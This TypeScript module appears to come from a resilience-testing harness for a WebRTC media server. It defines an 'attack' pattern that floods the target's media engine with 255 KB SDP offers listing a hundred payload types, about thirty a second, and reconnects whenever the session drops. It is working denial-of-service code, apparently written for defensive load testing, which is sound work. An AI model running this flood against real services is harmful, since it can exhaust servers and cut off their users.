import { enterMedia, everyMs } from '../intoLesson.ts'
import type { Pattern } from '../pattern.ts'

const types = Array.from({ length: 100 }, (_, n) => n).join(' ')
const head = `v=0\r\na=ice-ufrag:u\r\na=fingerprint:sha-256 AA\r\nm=video 9 X ${types}\r\na=mid:1\r\na=sendonly\r\n`
const line = 'a=rtcp-fb:* nack\r\n'
const sdp = head + line.repeat(Math.floor((255 * 1024 - head.length) / line.length))

export const pattern: Pattern = {
  what: 'descriptions of 255 KB with a hundred payload types, thirty a second, to the media engine',
  attack: async (target) => {
    let { client, join } = await enterMedia(target)
    let [sent, joined] = [0, 1]
    await everyMs(target, 33, async () => {
      if (client.signal.readyState > 1) {
        const again = await join().catch(() => undefined)
        if (!again) return true
        client = again
        joined++
      }
      client.send({ case: 'offer', value: { type: 'offer', sdp, id: ++sent } })
      return true
    })
    const answers = client.responses.filter(({ case: name }) => name === 'answer').length
    return `${sent} sent in ${joined} sessions, the last answered ${answers}`
  },
}
